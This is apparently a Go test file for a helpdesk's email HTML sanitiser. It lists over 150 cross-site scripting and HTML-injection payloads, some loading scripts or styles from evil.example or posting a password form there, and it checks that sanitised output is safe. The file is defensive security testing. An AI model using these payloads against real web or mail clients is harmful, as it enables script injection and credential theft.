package email_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/helpdesk-go/helpdesk/email"
)

// payloads are attacks in mails that run scripts, load something, cover the page or change its
// names.
var payloads = []string{
	// Scripts.
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<script/src=//evil.example>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<<script>alert(1);//<</script>`,
	`<script>alert(1)`, `<script x>alert(1)</script y>`, "<script\x0c>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", `</script><script>alert(1)</script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	// Event handlers.
	`<img src=x onerror=alert(1)>`, `<img src="x" ONERROR = "alert(1)">`, `<img/src=x/onerror=alert(1)>`, `<body onload=alert(1)>`, `<div onmouseover="alert(1)">x</div>`, `<p onclick=&#97;lert(1)>x</p>`,
	`<a href="https://x.example" onfocus=alert(1) autofocus>x</a>`, `<input onfocus=alert(1) autofocus>`, `<details open ontoggle=alert(1)>`, `<video src=x onerror=alert(1)>`, `<audio onloadstart=alert(1) src=x>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<td onpointerenter=alert(1)>x`, `<img """><img src=x onerror="alert(1)">`, "<img src=x\nonerror\n=\nalert(1)>", `<b onanimationstart=alert(1) style="animation:x">x</b>`,
	`<table background="javascript:alert(1)"><tr><td>x</table>`, `<img src='x' alt='"><script>alert(1)</script>'>`, `<img alt="x" title='" onerror="alert(1)'>`,
	// Addresses that run scripts.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>`, `<a href="javascript&#58;alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="&Tab;javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`,
	`<a href="view-source:javascript:alert(1)">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/admin/delete">x</a>`, `<a href="?logout=1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:https://x/1">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="data:text/html,x">`, `<img dynsrc="javascript:alert(1)">`,
	`<img lowsrc="javascript:alert(1)">`, `<a xlink:href="javascript:alert(1)">x</a>`, `<a href="https://x.example" ping="https://evil.example">x</a>`, `<a href="jav&#x0A;ascript:alert(1)">x</a>`, `<q cite="javascript:alert(1)">x</q>`,
	// Other names and other documents.
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><use href="data:image/svg+xml,x#x">`, `<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg><title><img src=x onerror=alert(1)></title></svg>`, `<math href="javascript:alert(1)">x</math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src="javascript:alert(1)">`, `<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`,
	`<applet code=x></applet>`, `<frameset><frame src="javascript:alert(1)"></frameset>`, `<portal src="https://evil.example">`, `<template><script>alert(1)</script></template>`, `<xml id=x><x>y</x></xml>`,
	// The page around the mail.
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<meta charset="utf-7">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=prefetch href="https://evil.example">`,
	`<form action="https://evil.example"><input name=password><button>Log in</button></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<isindex action="javascript:alert(1)">`, `<textarea><script>alert(1)</script></textarea>`, `<select><option>x</select>`,
	`</div></div></div></td></tr></table></body></html><p>out</p>`, `<plaintext>`, `<xmp><script>alert(1)</script></xmp>`, `<title><script>alert(1)</script></title>`, `<dialog open>x</dialog>`, `<a href="https://x.example" target=_top>x</a>`,
	`<a href="https://x.example" rel=opener target=x>x</a>`, `<area href="javascript:alert(1)">`, `<map name=x><area href="https://evil.example"></map><img usemap=#x>`, `<img ismap src=x>`,
	// Names that shadow those of the page.
	`<img id=body>`, `<a id=location href="https://x.example">x</a>`, `<img name=getElementById>`, `<p class="btn btn-danger">Delete</p>`, `<form id=x><input id=attributes></form>`, `<div id="csrf-token" data-value=x>x</div>`, `<p contenteditable>x</p>`,
	`<p slot=x is=x-y part=z>x</p>`, `<p hx-get="/admin" hx-trigger=load>x</p>`, `<p data-controller="x">x</p>`, `<p tabindex=1 accesskey=x>x</p>`,
	// Styles.
	`<style>@import 'https://evil.example/x.css';</style>`, `<style>body{background:url(https://evil.example)}</style>`, `<div style="background:url(https://evil.example/x.png)">x</div>`, `<div style="background-image:url('javascript:alert(1)')">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`, `<div style="w\69 dth:e\78pression(alert(1))">x</div>`, `<div style="width:exp/**/ression(alert(1))">x</div>`, `<div style="-moz-binding:url(x)">x</div>`, `<div style="behavior:url(x.htc)">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>`, `<div style="position:absolute;top:-500px">x</div>`, `<p style="margin-top:-300px">x</p>`, `<p style="margin:0 -500px">x</p>`, `<p style="transform:scale(99)">x</p>`,
	`<p style="text-indent:-9999px">x</p>`, `<p style="color:red;}body{display:none">x</p>`, `<p style="font-family:'x';background:url(x)">x</p>`, `<p style="font-family:&quot;;position:fixed">x</p>`, `<p style="list-style:url(https://evil.example)">x</p>`,
	`<p style="content:'x'">x</p>`, `<p style="color:var(--x);--y:url(x)">x</p>`, `<p style="background:image-set('https://evil.example' 1x)">x</p>`, `<p style="cursor:url(https://evil.example),auto">x</p>`, `<p style="float:left;height:9999px">x</p>`,
	`<p style="&#117;rl(x)">x</p>`, "<p style=\"background:\\75\\72\\6c(x)\">x</p>", `<p style="filter:progid:x(src='x')">x</p>`, `<font style="opacity:0.01;pointer-events:none">x</font>`, `<p style="@import url(x)">x</p>`,
	// Parsers that disagree.
	`<!--><img src=x onerror=alert(1)>-->`, `<!--x--!><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml <img src=x onerror=alert(1)>?>`, `<!DOCTYPE x [<!ENTITY y "<script>">]>`, `<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<style><!--</style><img src=x onerror=alert(1)>-->`, `<p title="--><img src=x onerror=alert(1)>">x</p>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<a title="&lt;/a>&lt;img src=x onerror=alert(1)>">x</a>`,
	"<img src=x` `onerror=alert(1)>", `<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>`, `<noframes><style></noframes><img src=x onerror=alert(1)></style>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<p <script>alert(1)</script>`, `<a<b>href="javascript:alert(1)">x</a>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<div/onclick=alert(1)//>x`, `<unknown onclick=alert(1)>x</unknown>`,
	`<table><td><div></table><script>alert(1)</script>`, `<img src=x:x onerror=alert(1)//`, `<b><i></b></i><p></b></p>`, `<image src=x onerror=alert(1)>`, `<br size="&{alert(1)}">`, `<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>`,
}

// The permitted contents of sanitised HTML, stated independently of the code.
var (
	safeElements = setOf("p br div span b strong i em u s strike del ins sub sup small big font center h1 h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre code tt kbd samp hr q abbr cite address " +
		"table thead tbody tfoot tr td th caption a img")
	safeAttributes = setOf("align valign dir lang title color bgcolor face size width height border cellpadding cellspacing colspan rowspan start value type alt href src target rel style")
	safeLink       = regexp.MustCompile(`^(?:https?|mailto|tel):`)
	safeImage      = regexp.MustCompile(`^(?:https?://|/files/|data:image/(?:png|jpeg|gif|webp|bmp);base64,[A-Za-z0-9+/=]+$)`)
	badStyle       = regexp.MustCompile(`(?i)url\s*\(|expression|import|position|behavior|binding|[\\<>{}@*]|-\d|z-index|transform|var\(|float|height: 9|opacity`)
)

func setOf(s string) map[string]bool {
	m := map[string]bool{}
	for w := range strings.FieldsSeq(s) {
		m[w] = true
	}
	return m
}

// unsafe returns a part of sanitised HTML that is unsafe to show, or "". It reads the HTML as a
// browser does, inside an element of a page, and as a list of tokens.
func unsafe(s string, remote bool) string {
	root, err := html.Parse(strings.NewReader("<html><head></head><body><main>" + s + "</main><footer></footer></body></html>"))
	if err != nil {
		return err.Error()
	}
	main := find(root, "main")
	if main == nil || main.NextSibling == nil || main.NextSibling.Data != "footer" {
		return "leaves the element it is in"
	}
	return unsafeBelow(main, remote)
}

func find(n *html.Node, name string) *html.Node {
	for d := range n.Descendants() {
		if d.Type == html.ElementNode && d.Data == name {
			return d
		}
	}
	return nil
}

func unsafeBelow(n *html.Node, remote bool) string {
	for d := range n.Descendants() {
		switch d.Type {
		case html.TextNode:
			continue
		case html.ElementNode:
		default:
			return "a node that is no element: " + d.Data
		}
		if !safeElements[d.Data] || d.Namespace != "" {
			return "element " + d.Data
		}
		attrs := map[string]string{}
		for _, a := range d.Attr {
			attrs[a.Key] = a.Val
			switch {
			case !safeAttributes[a.Key] || a.Namespace != "":
				return "attribute " + a.Key
			case a.Key == "href" && !safeLink.MatchString(a.Val):
				return "link to " + a.Val
			case a.Key == "src" && (!safeImage.MatchString(a.Val) || !remote && strings.HasPrefix(a.Val, "http")):
				return "image of " + a.Val
			case a.Key == "style" && badStyle.MatchString(a.Val):
				return "style " + a.Val
			}
		}
		if d.Data == "a" && attrs["href"] != "" && (attrs["target"] != "_blank" || attrs["rel"] != "noopener noreferrer nofollow") {
			return "a link that knows its page"
		}
	}
	return ""
}

func files(id string) (string, bool) { return "/files/" + id, id != "unknown" }

func TestHostileHTMLIsSafeOnceSanitised(t *testing.T) {
	t.Parallel()
	require.Greater(t, len(payloads), 150)
	for _, p := range payloads {
		for _, around := range []string{"%", "<p>before</p>%<p>after</p>", "<table><tr><td>%</td></tr></table>", `<a href="https://x.example/">%</a>`, "<div><b>%", "<svg>%</svg>", "<style>%</style>", "<!--%-->", `<p title="%">x</p>`, "<pre>%</pre>"} {
			mail := strings.ReplaceAll(around, "%", p)
			for _, cfg := range []*email.SanitizeConfig{nil, {RemoteImages: true, CID: files}} {
				clean := email.SanitizeHTML(mail, cfg)
				require.Empty(t, unsafe(clean, cfg != nil), "%s became %s", mail, clean)
				require.Equal(t, clean, email.SanitizeHTML(clean, &email.SanitizeConfig{RemoteImages: true}), "a second time: %s", mail)
			}
		}
	}
}

// TestUnsafeSeesWhatIsNot proves that the test above can fail.
func TestUnsafeSeesWhatIsNot(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"<script>x</script>", "<p onclick=x>", "<a href='javascript:x'>", "<a href='https://x.example'>", "<img src='https://x.example/'>", "<p style='position: fixed'>", "</main><p>x", "<p id=x>", "<!--x-->", "<svg></svg>", "<iframe>",
	} {
		require.NotEmpty(t, unsafe(s, false), s)
	}
}

func TestMixturesOfHostileHTMLAreSafeOnceSanitised(t *testing.T) {
	t.Parallel()
	pieces := append(append([]string{}, payloads...), htmlPieces...)
	rapid.Check(t, func(t *rapid.T) {
		var b strings.Builder
		for _, p := range rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 12).Draw(t, "pieces") {
			from := rapid.IntRange(0, len(p)).Draw(t, "from")
			if rapid.Bool().Draw(t, "whole") {
				from = 0
			}
			b.WriteString(p[from:])
		}
		clean := email.SanitizeHTML(b.String(), &email.SanitizeConfig{CID: files})
		if problem := unsafe(clean, false); problem != "" {
			t.Fatalf("%s: %q became %q", problem, b.String(), clean)
		}
	})
}

func TestSanitizeHTMLKeepsWhatMailsAreMadeOf(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ mail, clean string }{
		{"<p>Hello <b>you</b> &amp; me &lt;3</p>", "<p>Hello <b>you</b> &amp; me &lt;3</p>"},
		{`<a href="https://x.example/?a=1&amp;b=2">x</a>`, `<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>`},
		{`<a href="mailto:kim@x.example">x</a>`, `<a href="mailto:kim@x.example" target="_blank" rel="noopener noreferrer nofollow">x</a>`},
		{`<span style="COLOR: Red; font-size:11.0pt;position:fixed">x</span>`, `<span style="color: Red; font-size: 11.0pt">x</span>`},
		{`<td width="50%" style="padding:3.0pt 0cm 0cm 0cm;border-left:1px solid #ccc">x`, `<td width="50%" style="padding: 3.0pt 0cm 0cm 0cm; border-left: 1px solid #ccc">x</td>`},
		{`<blockquote type="cite" style="margin:0 0 0 .8ex">x</blockquote>`, `<blockquote type="cite" style="margin: 0 0 0 .8ex">x</blockquote>`},
		{"<ul><li>a<li>b</ul>", "<ul><li>a<li>b</li></li></ul>"},
		{"<b>a<p>b</b>c", "<b>a<p>b</p></b>c"},
		{`<p dir="rtl" lang="he">שלום</p>`, `<p dir="rtl" lang="he">שלום</p>`},
		{`<p style="` + strings.Repeat("color: red; ", 400) + `">x</p>`, "<p>x</p>"},
		{"", ""},
	} {
		require.Equal(t, c.clean, email.SanitizeHTML(c.mail, nil), c.mail)
	}
}

func TestImagesAreShownAsAsked(t *testing.T) {
	t.Parallel()
	mail := `<img src="https://x.example/a.png" alt="A"><img src="cid:b%40x" alt="B"><img src="cid:unknown" alt="C"><img src="data:image/png;base64,AAAA" alt="D">`
	for _, c := range []struct {
		cfg   *email.SanitizeConfig
		clean string
	}{
		{nil, `<img alt="A"><img alt="B"><img alt="C"><img src="data:image/png;base64,AAAA" alt="D">`},
		{&email.SanitizeConfig{RemoteImages: true}, `<img src="https://x.example/a.png" alt="A"><img alt="B"><img alt="C"><img src="data:image/png;base64,AAAA" alt="D">`},
		{&email.SanitizeConfig{CID: files}, `<img alt="A"><img src="/files/b@x" alt="B"><img alt="C"><img src="data:image/png;base64,AAAA" alt="D">`},
	} {
		require.Equal(t, c.clean, email.SanitizeHTML(mail, c.cfg))
	}
	require.True(t, email.HasRemoteImages(mail))
	require.False(t, email.HasRemoteImages(`<img src="cid:b"><p style="background:url(https://x.example)">`))
}

func TestImageOfTheMailCannotRunScripts(t *testing.T) {
	t.Parallel()
	for _, to := range []string{"javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x", " javascript:x", "\"><script>"} {
		clean := email.SanitizeHTML(`<img src="cid:a">`, &email.SanitizeConfig{CID: func(string) (string, bool) { return to, true }})
		require.NotContains(t, strings.ToLower(clean), "script:", to)
		require.NotContains(t, clean, "<script", to)
		require.NotContains(t, clean, "text/html", to)
	}
}

func FuzzSanitizeHTML(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, mail string) {
		clean := email.SanitizeHTML(mail, &email.SanitizeConfig{CID: files})
		require.Empty(t, unsafe(clean, false), clean)
	})
}
